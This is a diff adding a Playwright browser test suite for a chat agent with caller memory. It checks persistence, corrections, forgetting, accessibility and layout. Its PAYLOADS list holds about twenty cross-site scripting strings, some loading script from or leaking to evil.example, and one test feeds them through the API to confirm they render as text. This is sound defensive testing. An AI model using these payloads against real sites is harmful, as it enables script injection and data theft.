@@ -1,0 +1,478 @@
+"""The page in a real browser, in front of a real server process, as a caller sees it."""
+
+from __future__ import annotations
+
+import json
+import os
+import queue
+import re
+import subprocess
+import sys
+import threading
+from contextlib import asynccontextmanager
+from pathlib import Path
+
+import httpx
+import pytest
+import pytest_asyncio
+from playwright.async_api import async_playwright, expect
+
+pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]
+
+IMAGES = Path(__file__).parents[2] / "docs" / "images"
+CHROMIUM = "/usr/bin/chromium"
+FLAGS = (
+    "--no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking "
+    "--disable-component-update --disable-sync"
+).split()
+STARTS_S = 60
+# Anything of these that became an element instead of text would run, load, or be seen.
+PAYLOADS = [
+    "<script>window.pwned = 1</script>",
+    "<img src=x onerror=window.pwned=1>",
+    "<svg onload=window.pwned=1>",
+    "<svg><script>window.pwned=1</script></svg>",
+    "</p></li><h1 onmouseover=window.pwned=1>big</h1>",
+    '"><script src=//evil.example/x.js></script>',
+    "' onfocus=window.pwned=1 autofocus='",
+    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
+    "<a href=javascript:window.pwned=1>click</a>",
+    "[click](javascript:window.pwned=1)",
+    "![x](https://evil.example/leak.png)",
+    "<style>*{display:none}</style>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwned=1&gt;'>",
+    "<details open ontoggle=window.pwned=1>x</details>",
+    "<base href=https://evil.example/>",
+    "<form action=https://evil.example/><input name=q><button>go</button></form>",
+    "${window.pwned=1}{{constructor.constructor('window.pwned=1')()}}",
+    "\u202e\u2066<script>window.pwned=1</script>\u2069",
+    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
+    "\x1b[2J\x1b]0;owned\x07",
+]
+
+
+class Process:
+    """`echoic serve`, which can be stopped and started again on the same port and store."""
+
+    def __init__(self, directory):
+        self._directory = directory
+        self._process = None
+        self.url = ""
+
+    def start(self):
+        port = str(httpx.URL(self.url).port) if self.url else "0"
+        command = [
+            sys.executable,
+            "-m",
+            "echoic.cli",
+            "--store",
+            "sqlite:///echoic.db",
+            "serve",
+            "--port",
+            port,
+        ]
+        self._process = subprocess.Popen(
+            command,
+            cwd=self._directory,
+            env=self._environment(),
+            stdout=subprocess.PIPE,
+            stderr=subprocess.PIPE,
+            text=True,
+        )
+        self.url = self._announced().rstrip("/")
+
+    def stop(self, *, killed=False):
+        if self._process is None:
+            return
+        self._process.kill() if killed else self._process.terminate()
+        self._process.communicate(timeout=30)
+        self._process = None
+
+    def _environment(self):
+        kept = {name: value for name, value in os.environ.items() if not name.startswith("ECHOIC_")}
+        return {**kept, "ECHOIC_EMBEDDER": os.environ.get("ECHOIC_EMBEDDER", "local")}
+
+    def _announced(self):
+        lines = queue.Queue()
+        threading.Thread(target=lambda: lines.put(self._process.stdout.readline()), daemon=True).start()
+        try:
+            line = lines.get(timeout=STARTS_S).strip()
+        except queue.Empty:
+            line = ""
+        if not line:
+            self._process.kill()
+            raise AssertionError(f"the server did not start: {self._process.communicate()[1][-2000:]}")
+        return line
+
+
+@pytest.fixture(scope="module")
+def process(tmp_path_factory):
+    running = Process(tmp_path_factory.mktemp("browser"))
+    running.start()
+    yield running
+    running.stop()
+
+
+@pytest_asyncio.fixture(scope="module", loop_scope="module")
+async def browser():
+    async with async_playwright() as playwright:
+        launched = await playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
+        yield launched
+        await launched.close()
+
+
+class Seen:
+    """What went wrong in a page, as the browser tells it."""
+
+    def __init__(self, page):
+        self.console, self.errors, self.dialogs, self.foreign = [], [], [], []
+        page.on(
+            "console", lambda message: self.console.append(message.text) if message.type == "error" else None
+        )
+        page.on("pageerror", lambda error: self.errors.append(str(error)))
+        page.on("dialog", self._dialog)
+
+    async def _dialog(self, dialog):
+        self.dialogs.append(dialog.message)
+        await dialog.dismiss()
+
+    def assert_nothing(self):
+        assert (self.console, self.errors, self.dialogs, self.foreign) == ([], [], [], [])
+
+
+@asynccontextmanager
+async def visiting(browser, process, **options):
+    """A page of somebody who was never here, watched."""
+    context = await browser.new_context(**{"viewport": {"width": 1280, "height": 800}, **options})
+    context.set_default_timeout(15_000)
+    page = await context.new_page()
+    page.seen = Seen(page)
+    page.on(
+        "request", lambda r: page.seen.foreign.append(r.url) if not r.url.startswith(process.url) else None
+    )
+    await page.add_init_script(
+        "window.violations = [];"
+        "addEventListener('securitypolicyviolation',"
+        " (event) => violations.push(`${event.violatedDirective} ${event.blockedURI}`));"
+    )
+    await page.goto(process.url)
+    await expect(page.locator(".turn.agent")).to_have_count(1)
+    try:
+        yield page
+    finally:
+        await context.close()
+
+
+@pytest_asyncio.fixture(loop_scope="module")
+async def page(browser, process):
+    async with visiting(browser, process) as visited:
+        yield visited
+        assert await visited.evaluate("window.violations") == []
+        visited.seen.assert_nothing()
+
+
+async def say(page, text):
+    """Type it, send it, and wait for the answer."""
+    before = await page.locator(".turn.agent").count()
+    field = page.get_by_role("textbox", name="Say something")
+    await field.fill(text)
+    await field.press("Enter")
+    await expect(page.locator(".turn.agent")).to_have_count(before + 1)
+    return await settled(page)
+
+
+async def settled(page):
+    """Wait until the page is at rest; what the agent said last."""
+    await expect(page.locator("body:not([aria-busy])")).to_be_visible()
+    return await page.locator(".turn.agent .words").last.inner_text()
+
+
+async def press(page, name):
+    await page.get_by_role("button", name=name, exact=True).click()
+    return await settled(page)
+
+
+def card(page, key):
+    return page.locator(f".card[data-key='{key}']")
+
+
+async def token_of(page):
+    stored = json.loads(await page.evaluate("localStorage.getItem('echoic.callers')"))
+    return stored["callers"][-1]["token"]
+
+
+async def test_a_caller_comes_back_tomorrow_to_another_process_and_is_known(page, process):
+    await expect(page.get_by_text("Nothing is known about this caller yet.")).to_be_visible()
+    await say(page, "I'm Pavel, I live in Tel Aviv")
+    await expect(card(page, "user_name")).to_contain_text("Pavel")
+    await expect(card(page, "home")).to_contain_text("Tel Aviv")
+    await expect(card(page, "home")).to_contain_text("private")
+    await expect(page.locator(".step .name", has_text="append").first).to_be_visible()
+
+    assert await press(page, "Come back tomorrow") == "Welcome back, Pavel."
+    await expect(page.locator(".divider").last).to_have_text("The next day")
+    process.stop(killed=True)
+    process.start()
+
+    assert "Tel Aviv" in await say(page, "where do I live?")
+    table = page.locator(".operation").first.locator("table.hits")
+    columns = await table.locator("thead th").all_inner_texts()
+    assert columns[0] == "found"
+    assert columns[-1] == "score"
+    assert {"vector", "text"} <= set(columns)
+    await expect(table.locator("tr.memory").first).to_contain_text("Tel Aviv")
+    assert re.search(r"#\d+\s+-?\d", await table.locator("tr.memory td").first.inner_text())
+    await expect(page.locator(".operation").first.locator(".outcome")).to_have_text("complete")
+    assert all(
+        re.fullmatch(r"[\d.]+ ms", time) for time in await page.locator(".title .ms").all_inner_texts()
+    )
+
+
+async def test_a_new_caller_knows_nothing_and_the_old_one_is_still_there(page):
+    await say(page, "I'm Pavel and I live in Tel Aviv")
+    greeting = await press(page, "New caller")
+    assert "Pavel" not in greeting
+    await expect(page.locator(".card")).to_have_count(0)
+    assert "Tel Aviv" not in await say(page, "Where do I live?")
+    assert "Pavel" not in await say(page, "What do you know about me?")
+
+    callers = page.get_by_role("combobox", name="Caller")
+    await callers.select_option(label="Pavel")
+    assert await settled(page) == "Welcome back, Pavel."
+    assert "Tel Aviv" in await say(page, "Where do I live?")
+
+
+async def test_a_correction_strikes_the_old_value_through_and_keeps_it_as_history(page):
+    await say(page, "I live in Tel Aviv")
+    await say(page, "Actually I moved to Lisbon")
+    home = card(page, "home")
+    await expect(home.locator(".value")).to_have_text("Lisbon")
+    await expect(home.locator("s.was")).to_have_text("Tel Aviv")
+    await expect(page.locator(".operation").first).to_contain_text("supersede")
+    await expect(page.locator(".operation").first).to_contain_text("Tel Aviv → Lisbon")
+    history = home.get_by_role("button", name="history")
+    await history.click()
+    await expect(history).to_have_attribute("aria-expanded", "true")
+    await expect(home.locator(".history li")).to_have_count(2)
+    await expect(home.locator(".history li").first).to_contain_text("corrected")
+    await history.click()
+    await expect(home.locator(".history")).to_have_count(0)
+
+
+async def test_what_is_for_everyone_is_shown_as_proposed(page):
+    await page.get_by_role("button", name="We're open nine to five").click()
+    await settled(page)
+    await expect(card(page, "opening hours").locator(".tag.proposed")).to_have_text("proposed")
+
+
+async def test_forgetting_asks_first_shows_the_receipt_and_leaves_nothing(page):
+    await say(page, "I'm Pavel and I live in Tel Aviv")
+    await page.get_by_role("button", name="Forget me").click()
+    dialog = page.get_by_role("dialog")
+    await dialog.get_by_role("button", name="Keep it").click()
+    await expect(dialog).not_to_be_visible()
+    await expect(page.locator(".card")).to_have_count(2)
+
+    await page.get_by_role("button", name="Forget me").click()
+    await dialog.get_by_role("button", name="Forget me").click()
+    await expect(dialog.get_by_role("heading", name="Forgotten")).to_be_visible()
+    await expect(dialog).to_contain_text("Verified")
+    receipt = dict(
+        zip(
+            await dialog.locator("dt").all_inner_texts(),
+            await dialog.locator("dd").all_inner_texts(),
+            strict=True,
+        )
+    )
+    assert receipt["Memories"] == "2"
+    assert receipt["Turns"] == "3"  # the greeting, what was said, and the answer
+    await page.keyboard.press("Escape")
+    await expect(page.locator(".divider").last).to_have_text("Forgotten")
+    assert "know nothing" in await settled(page)
+    await expect(page.locator(".card")).to_have_count(0)
+    assert "Tel Aviv" not in await say(page, "Where do I live?")
+
+
+async def test_forgetting_by_voice_goes_on_with_a_new_conversation(page):
+    await say(page, "I live in Tel Aviv")
+    await say(page, "Forget everything about me")
+    assert "Erased" in await say(page, "yes")
+    await expect(page.locator(".card")).to_have_count(0)
+    await say(page, "I live in Lisbon")
+    await expect(card(page, "home")).to_contain_text("Lisbon")
+
+
+async def test_what_was_said_is_never_read_as_html(page, process):
+    headers = {"Authorization": f"Bearer {await token_of(page)}"}
+    body = {"operation": "set", "deploymentId": "default", "userCookie": await token_of(page)}
+    async with httpx.AsyncClient(base_url=process.url, verify=False) as client:
+        for number, payload in enumerate(PAYLOADS):
+            for key, value in ((f"payload {number}", payload), (payload, "as a key")):
+                answer = await client.post("/api/memory", json={**body, "key": key, "value": value})
+                assert answer.status_code == 200
+        await client.post("/api/memory", json={**body, "key": "payload 0", "value": PAYLOADS[1]})
+        await client.post("/api/memory", json={**body, "key": "user_name", "value": PAYLOADS[1]})
+        assert (
+            len((await client.get("/api/memories", headers=headers)).json()["memories"])
+            == 2 * len(PAYLOADS) + 1
+        )
+    await page.reload()
+    await expect(page.locator(".card")).to_have_count(2 * len(PAYLOADS) + 1)
+    await page.locator(".card .link").first.click()
+    await expect(page.locator(".history li")).to_have_count(2)
+    for payload in PAYLOADS:
+        await say(page, payload)
+        await say(page, f"What is {payload}?")
+
+    values = await page.locator(".card .value").all_text_contents()
+    shown = await page.locator(".turn.user .words").all_text_contents()
+    for number, payload in enumerate(PAYLOADS[1:], 1):
+        assert await card(page, f"payload {number}").locator(".value").text_content() == payload
+        assert payload in values
+        assert payload in [text.strip() for text in shown] or not payload.isprintable()
+    allowed = {
+        "LI",
+        "P",
+        "SPAN",
+        "DIV",
+        "S",
+        "B",
+        "OL",
+        "UL",
+        "TIME",
+        "BUTTON",
+        "DETAILS",
+        "SUMMARY",
+        "TABLE",
+        "THEAD",
+        "TBODY",
+        "TR",
+        "TH",
+        "TD",
+    }
+    names = await page.evaluate(
+        "[...document.querySelectorAll('#transcript *, #memories *, #operations *, #caller *')]"
+        ".map((element) => element.tagName)"
+    )
+    assert set(names) <= allowed | {"OPTION"}
+    assert await page.evaluate("window.pwned") is None
+
+
+async def test_a_server_that_is_gone_is_told_and_nothing_typed_is_lost(browser, process):
+    async with visiting(browser, process) as page:
+        await say(page, "I'm Pavel")
+        process.stop()
+        field = page.get_by_role("textbox", name="Say something")
+        await field.fill("I live in Tel Aviv")
+        await field.press("Enter")
+        await expect(page.get_by_role("alert")).to_contain_text("cannot be reached")
+        await expect(field).to_have_value("I live in Tel Aviv")
+        process.start()
+        await field.press("Enter")
+        await expect(card(page, "home")).to_contain_text("Tel Aviv")
+        await expect(page.get_by_role("alert")).to_have_count(0)
+
+
+async def test_an_identity_the_server_does_not_know_is_told_and_can_be_replaced(browser, process):
+    async with visiting(browser, process) as page:
+        await page.evaluate(
+            "localStorage.setItem('echoic.callers',"
+            " JSON.stringify({callers: [{user: 'a', token: 'b', name: ''}]}))"
+        )
+        await page.reload()
+        await expect(page.get_by_role("alert")).to_contain_text("New caller")
+        await press(page, "New caller")
+        await expect(page.locator(".turn.agent")).to_have_count(1)
+        await expect(page.get_by_role("alert")).to_have_count(0)
+
+
+async def test_the_page_is_used_with_the_keyboard_alone(page):
+    await expect(page.get_by_role("textbox", name="Say something")).to_be_focused()
+    await page.keyboard.type("I'm Pavel")
+    await page.keyboard.press("Enter")
+    await expect(card(page, "user_name")).to_contain_text("Pavel")
+    await expect(page.get_by_role("textbox", name="Say something")).to_be_focused()
+    reached = []
+    for _ in range(40):
+        await page.keyboard.press("Tab")
+        reached.append(await page.evaluate("document.activeElement.id || document.activeElement.className"))
+    assert {"caller", "tomorrow", "new-caller", "forget", "transcript", "suggestion", "send"} <= set(reached)
+    log = page.get_by_role("log")
+    await expect(log).to_have_attribute("aria-live", "polite")
+    for role in ("banner", "main", "complementary"):
+        await expect(page.get_by_role(role)).to_have_count(1)
+
+
+# Contrast of every text that is seen, against the first opaque ground behind it (WCAG 2.2, 1.4.3).
+CONTRAST = """
+() => {
+  const channel = (v) => (v /= 255) <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4;
+  const luminance = ([r, g, b]) => 0.2126 * channel(r) + 0.7152 * channel(g) + 0.0722 * channel(b);
+  const rgb = (css) => css.match(/[\\d.]+/g).map(Number);
+  const ground = (e) => {
+    for (; e; e = e.parentElement) {
+      const colour = rgb(getComputedStyle(e).backgroundColor);
+      if (colour.length < 4 || colour[3] === 1) return colour;
+    }
+    return [255, 255, 255];
+  };
+  const low = [];
+  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
+  for (let node = walker.nextNode(); node; node = walker.nextNode()) {
+    const element = node.parentElement;
+    const unseen = element.closest("noscript, .visually-hidden, .skip");
+    if (!node.data.trim() || !element.checkVisibility() || unseen) continue;
+    const text = luminance(rgb(getComputedStyle(element).color));
+    const behind = luminance(ground(element));
+    const ratio = (Math.max(text, behind) + 0.05) / (Math.min(text, behind) + 0.05);
+    if (ratio < 4.5) low.push(`${ratio.toFixed(2)} ${node.data.trim().slice(0, 30)}`);
+  }
+  return low;
+}
+"""
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+async def test_every_text_can_be_read(browser, process, scheme):
+    async with visiting(browser, process, color_scheme=scheme, reduced_motion="reduce") as page:
+        await tell_the_story(page)
+        assert await page.evaluate(CONTRAST) == []
+        await page.get_by_role("button", name="Forget me").click()
+        assert await page.evaluate(CONTRAST) == []
+
+
+@pytest.mark.parametrize("width", [320, 390, 768, 1024, 1920])
+async def test_nothing_is_cut_off_at_any_width(browser, process, width):
+    async with visiting(browser, process, viewport={"width": width, "height": 800}) as page:
+        await say(page, "I'm Pavel and I live in Tel Aviv")
+        await say(page, "Where do I live?")
+        assert await page.evaluate("document.documentElement.scrollWidth") <= width
+        for name in ("Come back tomorrow", "New caller", "Forget me", "Say"):
+            box = await page.get_by_role("button", name=name, exact=True).bounding_box()
+            assert box["x"] >= 0
+            assert box["x"] + box["width"] <= width
+
+
+async def tell_the_story(page):
+    """What the picture in the README shows."""
+    await say(page, "I'm Pavel and I live in Tel Aviv")
+    await say(page, "Actually I moved to Lisbon")
+    await say(page, "We're open nine to five")
+    assert await press(page, "Come back tomorrow") == "Welcome back, Pavel."
+    return await say(page, "Where do I live?")
+
+
+@pytest.mark.parametrize(("scheme", "name"), [("light", "page.png"), ("dark", "page-dark.png")])
+async def test_the_picture_in_the_readme_is_of_this_page(browser, process, scheme, name):
+    picture = IMAGES / name
+    if picture.exists() and os.environ.get("ECHOIC_SCREENSHOTS") != "1":
+        head = picture.read_bytes()[:24]
+        assert (int.from_bytes(head[16:20]), int.from_bytes(head[20:24])) == (1280, 800)
+        return
+    async with visiting(browser, process, color_scheme=scheme, reduced_motion="reduce") as page:
+        assert "Lisbon" in await tell_the_story(page)
+        await expect(page.locator(".card")).to_have_count(3)
+        await page.mouse.move(5, 400)
+        picture.parent.mkdir(parents=True, exist_ok=True)
+        await page.screenshot(path=picture)
+        page.seen.assert_nothing()
